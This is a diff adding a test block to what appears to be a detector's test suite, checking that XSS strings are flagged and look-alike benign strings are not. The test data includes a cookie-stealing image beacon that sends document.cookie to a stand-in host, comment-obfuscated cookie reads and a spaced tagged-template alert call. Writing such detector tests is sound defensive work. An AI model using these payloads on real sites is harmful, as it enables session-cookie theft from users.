@@ -40,6 +40,17 @@ describe("sqli", () => {
   });
 });
 
+describe("xss: the page's cookie and tagged templates behind JavaScript's blanks and comments", () => {
+  it("flags a cookie read sent away or hidden, and spaced tagged templates", () => {
+    const attacks: StaticArray<string> = ["new Image().src='//x/?'+document.cookie", "document.cookie+'x'", "document /*foo*/ . cookie",
+      "document/*foo*/./*bar*/cookie", "(document/*foo*/)[\"cookie\"]", "[  ] . sort . call ` ${ alert } 1337 `", "[ ] . /**/ sort . call ` ${ alert } 1337 `"];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Xss)).toBe(true, attacks[i]);
+    const benign: StaticArray<string> = ["document.cookie", "read document.cookie to get it", "the document . cookie policy", "document.cookies", "mydocument.cookie+1",
+      "we call `make` then `make install`", "a . call ` x `"];
+    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Xss)).toBe(false, benign[i]);
+  });
+});
+
 describe("xss", () => {
   it("flags tags, handlers, script URIs and encoded forms", () => {
     const attacks: StaticArray<string> = [
